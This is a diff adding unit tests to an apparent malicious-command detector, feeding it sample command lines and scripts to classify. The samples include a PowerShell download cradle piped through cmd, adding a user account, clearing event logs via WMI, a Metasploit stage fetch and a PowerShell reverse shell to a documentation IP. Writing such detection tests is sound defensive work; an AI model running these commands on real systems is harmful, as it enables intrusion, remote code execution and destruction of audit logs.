@@ -1327,3 +1327,34 @@ TEST_CASE("a stop_signal ends an analysis early, keeping what it found, marked i
     }
     CHECK(stopped_inside);
 }
+
+TEST_CASE("code piped into an interpreter is analysed as that interpreter's code") {
+    const auto r = cl("cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') | powershell -");
+    CHECK_KIND(r, inline_script);
+    CHECK_KIND(r, download_cradle);
+    const auto nested = cl("cmd /c echo net user x P@ss /add | cmd");
+    CHECK_KIND(nested, account_manipulation);
+    CHECK_KIND(nested, inline_script);
+    // Without a pipe, echo only prints.
+    CHECK_FALSE(cl("cmd /c echo IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')").has(indicator_kind::download_cradle));
+}
+
+TEST_CASE("event logs cleared through WMI, and offensive framework functions by name") {
+    CHECK_KIND(vbs("For Each l in GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_NTEventLogFile\")\nl.ClearEventLog()\nNext"),
+               logging_tamper);
+    CHECK_KIND(ps("Invoke-WmiMethod -Class Win32_NTEventLogFile -Name ClearEventlog"), logging_tamper);
+    CHECK_KIND(ps("Invoke-MetasploitPayload https://203.0.113.4:8443/stage"), download_cradle);
+    CHECK_KIND(ps("Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.4 -Port 443"), reverse_shell);
+    CHECK_KIND(ps("Invoke-Shellcode -Force"), process_injection);
+    CHECK_KIND(vbs("Const B64 = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\""), base64_decode);
+}
+
+TEST_CASE("a console given to the interactive desktop is not a shell started for its AutoRun") {
+    wmisub::command_line_consumer c;
+    c.name = "Console";
+    c.executable_path = "cmd.exe";
+    c.run_interactively = true;
+    CHECK_FALSE(wmisub::analyze_consumer(wmisub::consumer{c}).has(indicator_kind::implicit_profile_execution));
+    c.run_interactively = false;
+    CHECK(wmisub::analyze_consumer(wmisub::consumer{c}).has(indicator_kind::implicit_profile_execution));
+}
